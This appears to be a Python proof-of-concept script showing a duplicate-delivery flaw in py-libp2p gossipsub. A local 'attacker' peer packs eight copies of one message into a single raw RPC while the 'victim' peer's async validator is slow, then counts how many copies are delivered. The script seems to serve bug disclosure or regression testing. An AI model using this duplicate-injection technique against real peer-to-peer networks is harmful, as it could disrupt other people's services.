"""A message is marked seen only after validation: eight copies in one RPC are delivered eight
times when the validator takes its time."""

import trio
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils.varint import encode_uvarint
from stock import connect, count, peer, run, tell


async def validator(_peer, _message) -> bool:
    await trio.sleep(0.2)
    return True


async def main() -> int:
    async with peer() as (victim, pubsub), peer() as (attacker, theirs):
        pubsub.set_topic_validator("topic", validator, True)
        subscription = await pubsub.subscribe("topic")
        await connect(attacker, victim)
        sent: list[rpc_pb2.Message] = []

        async def keep(_forwarder, message) -> None:
            sent.append(message)

        theirs.push_msg = keep
        await theirs.publish("topic", b"hello")
        rpc = rpc_pb2.RPC(publish=sent * 8).SerializeToString()
        stream = await attacker.new_stream(victim.get_id(), [PROTOCOL_ID_V11])
        await stream.write(encode_uvarint(len(rpc)) + rpc)
        delivered = await count(subscription, 2)
    return tell(delivered != 1, f"one message was delivered {delivered} times")


run(main)
